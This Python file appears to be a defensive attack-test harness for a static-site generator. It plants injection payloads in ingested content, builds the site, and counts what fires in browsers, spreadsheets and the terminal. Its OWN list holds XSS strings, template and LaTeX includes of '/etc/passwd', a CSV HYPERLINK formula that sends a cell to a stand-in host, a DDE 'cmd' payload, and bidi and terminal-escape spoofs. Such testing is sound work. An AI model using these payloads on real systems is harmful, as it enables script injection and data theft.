"""Attacks by every other way in: what two browsers, a terminal and a spreadsheet make of the built site."""

import csv
import html
import io
import json
import os
import re
import shutil
import subprocess
import sys
import tempfile
from base64 import b64decode
from collections.abc import Mapping
from pathlib import Path
from typing import Any
from urllib.parse import unquote

from playwright.sync_api import sync_playwright
from rich.console import Console

from dateline.article.errors import DatelineError
from dateline.build.theme import theme_folder
from dateline.cli.search_console import answers, show_answer
from dateline.ingest import ingest
from dateline.search import open_index
from dateline.site.interface_language import read_language

from .attack_addresses import SEED, hostile_addresses, write_seed
from .attack_carriers import CARRIERS, write_carriers, write_owners_files
from .chromium import ARGUMENTS, chromium
from .hostile import Payload, read_payloads
from .hostile_audit import findings
from .hostile_browser import open_paths, served_site
from .quiet_build import build_quietly

_ROOT = Path(__file__).resolve().parent.parent
_BATCH = 20  # payloads of one article, at least
_FORMULA = ("=", "+", "-", "@", "\t", "\r")
_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
OWN = (
    "<script>alert('x')</script>",
    "<img src=x onerror=alert(1)>",
    "javascript:alert(2)//http://example.org/",
    "</title></style></textarea></script><svg/onload=alert(4)>",
    "{{ 7*7 }}{% include '/etc/passwd' %}${7*7}",
    '=HYPERLINK("http://stranger.example/?"&A1,"x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "}, url = {javascript:alert(5)}, note = {\\input{/etc/passwd}",
    "x\nER  - \nTY  - JOUR\nUR  - javascript:alert(6)",
    "\u202egnp.exe\u2066 and \u2069\u2069",
    "\x1b]0;owned\x07\x1b[2J\x1b[31mred\x9b31m",
    "' onmouseover='alert(7)' x='",
    "[x](javascript:alert(8)) ![x](//stranger.example/x.png) {attach}../../x",
    "# heading: forged\nstatus: hidden\n---\n",
)


def run(data: Path, sample: int = 400, *, firefox: bool = True) -> Mapping[str, int]:
    """Bring payloads in by every carrier, build, and count what acts, asks strangers or breaks out.

    Args:
        data: folder with xss.jsonl, naughty.jsonl and fields.jsonl.
        sample: how many of their payloads; 0 for all. Ours are always there.
        firefox: open the pages in Firefox, too.

    Returns:
        The figures of the JSON line.
    """
    payloads = [Payload(f"own-{number}", text) for number, text in enumerate(OWN)]
    payloads += read_payloads(data, sample)
    with tempfile.TemporaryDirectory() as work:
        folder = Path(work)
        figures = _plant(payloads, folder)
        site = folder / "output"
        figures |= _read(site)
        paths = [path for path in _pages(site) if path.startswith(("articles/", "people/", "places/"))]
        paths += [path for path in _pages(site) if "/" not in path]
        write_seed(site, [one.text for one in payloads[: len(OWN)]])
        paths += [SEED, "reading-list.html", *hostile_addresses([one.text for one in payloads[: len(OWN)]])]
        figures |= {f"chromium_{name}": value for name, value in _in_chromium(site, paths).items()}
        if firefox:
            figures |= {f"firefox_{name}": value for name, value in _in_firefox(site, paths).items()}
        figures["terminal"] = _in_terminal(site)
    for name, value in figures.items():
        print(f"{name:<24} {value:>8,}")
    print(json.dumps({"benchmark": "attacks", **figures}))
    return figures


def _plant(payloads: list[Payload], folder: Path) -> dict[str, int]:
    number_of_batches = max(1, len(payloads) // _BATCH)
    batches = [payloads[start::number_of_batches] for start in range(number_of_batches)]
    (folder / "pile").mkdir()
    for number, batch in enumerate(batches):
        write_carriers(folder / "pile", number, [one.text for one in batch])
    report = ingest([folder / "pile"], folder / "content")
    settings = write_owners_files(folder, [one.text for one in payloads[: len(OWN)]])
    built = build_quietly(folder, **settings)
    for rejected in built.rejected:
        print(f"refused: {rejected.name}: {rejected.reason[:100]}", file=sys.stderr)
    return {
        "payloads": len(payloads),
        "carriers": len(CARRIERS),
        "added": report.counts["added"],
        "quarantined": report.counts["quarantined"],
        "articles": built.articles,
    }


def _read(site: Path) -> dict[str, int]:
    """Count what of all pages could act, and the cells and records of data that break out of their place."""
    active = [
        f"{path}: {finding}"
        for path in _pages(site)
        for finding in findings((site / path).read_text("utf-8"))
    ]
    for finding in active[:20]:
        print("active:", finding, file=sys.stderr)
    cells = 0
    for file in site.rglob("*.csv"):
        with file.open(encoding="utf-8", newline="") as stream:
            cells += sum(cell.startswith(_FORMULA) for row in csv.reader(stream) for cell in row)
    for file in (*site.rglob("*.json"), *site.rglob("*.geojson")):
        json.loads(file.read_text("utf-8"))
    return {"pages": len(_pages(site)), "active": len(active), "formulas": cells, "references": _broken(site)}


def _broken(site: Path) -> int:
    """Count references that say more than one record, or whose braces do not pair."""
    broken = 0
    for path in _pages(site):
        for data in re.findall(r'href="data:([^"]+)"', (site / path).read_text("utf-8")):
            broken += not _is_one_record(html.unescape(data))
    return broken


def _is_one_record(address: str) -> bool:
    kind, _, packed = address.partition(",")
    text = b64decode(packed).decode() if kind.endswith(";base64") else unquote(packed)
    if "json" in kind:
        return len(json.loads(text)) == 1
    if "bibtex" in kind:
        depth = 0
        for sign in re.sub(r"\\.", "", text):
            depth += (sign == "{") - (sign == "}")
            if depth < 0:
                return False
        return depth == 0 and text.count("\n@") == 0
    if "research-info" in kind:
        lines = text.splitlines()
        tags = [line[:2] for line in lines if line]
        return tags.count("TY") == 1 == tags.count("ER") and all(
            line[2:6] == "  - " for line in lines if line
        )
    return True


def _pages(site: Path) -> list[str]:
    return sorted(path.relative_to(site).as_posix() for path in site.rglob("*.html"))


def _in_chromium(site: Path, paths: list[str]) -> dict[str, int]:
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=chromium(), args=list(ARGUMENTS))
        try:
            return open_paths(site, browser, paths)
        finally:
            browser.close()


# A page that fires in each way that the watcher has to see, and asks a stranger.
PROBE = """<!doctype html><title>Probe</title><script>alert("script")</script>
<img src="missing.png" onerror="alert('handler')"><input onfocus="alert('focus')">
<img src="http://127.0.0.2:8099/stranger.png">"""


class NoFirefoxError(DatelineError):
    """There is no Firefox, or nothing to drive it with, on this machine."""


def _in_firefox(site: Path, paths: list[str]) -> dict[str, int]:
    """Open the pages in Firefox, with the policy and without.

    Raises:
        NoFirefoxError: it is missing, or sleeps through a page that does fire.
    """
    if not firefox_is_watched():
        raise NoFirefoxError("the watcher did not see a page that fires", remedy="Mend attacks_firefox.js.")
    sums = {"opened": 0, "fired": 0, "third_party": 0}
    for policy in (True, False):
        with served_site(site, policy=policy) as origin:
            found = _watched(origin, paths)
        for event in (*found["fired"][:20], *found["strangers"][:20]):
            print("firefox:", event[:200], file=sys.stderr)
        sums["opened"] += found["opened"]
        sums["fired"] += len(found["fired"])
        sums["third_party"] += len(found["strangers"])
    return sums


def firefox_is_watched() -> bool:
    """Return whether the watcher sees what fires: each kind of it, on a page that was made to.

    Raises:
        NoFirefoxError: there is none.
    """
    with tempfile.TemporaryDirectory() as folder:
        (Path(folder) / "probe.html").write_text(PROBE, "utf-8")
        (Path(folder) / "leave.html").write_text("<script>location = 'probe.html#left'</script>", "utf-8")
        with served_site(Path(folder), policy=False) as origin:
            found = _watched(origin, ["probe.html", "leave.html"])
    events = " ".join(found["fired"])
    seen = all(word in events for word in ("alert:script", "alert:handler", "alert:focus", "navigated"))
    return seen and any("127.0.0.2" in address for address in found["strangers"])


def _watched(origin: str, paths: list[str]) -> dict[str, Any]:
    """Return what the watcher wrote down of some pages.

    Raises:
        NoFirefoxError: Firefox or node is missing.
    """
    firefox = os.environ.get("FIREFOX") or shutil.which("firefox-esr") or shutil.which("firefox")
    node = shutil.which("node")
    if not firefox or not node:
        raise NoFirefoxError(
            "Firefox or node was not found", remedy="Install Debian's firefox-esr and nodejs."
        )
    done = subprocess.run(
        [node, str(Path(__file__).with_name("attacks_firefox.js")), firefox, origin],
        input=json.dumps(paths),
        capture_output=True,
        text=True,
        check=True,
    )
    return dict(json.loads(done.stdout))


def _in_terminal(site: Path) -> int:
    """Count control characters, bidi overrides among them, that searches in the terminal print."""
    out = io.StringIO()
    console = Console(file=out, width=120)
    english = read_language(theme_folder() / "translations", "en")
    queries = ["council", "bridge", "gnp", "red", *OWN]
    for answer in answers(open_index(site / "search"), queries, None):
        show_answer(console, answer, english)
    return len(_CONTROL.findall(out.getvalue()))
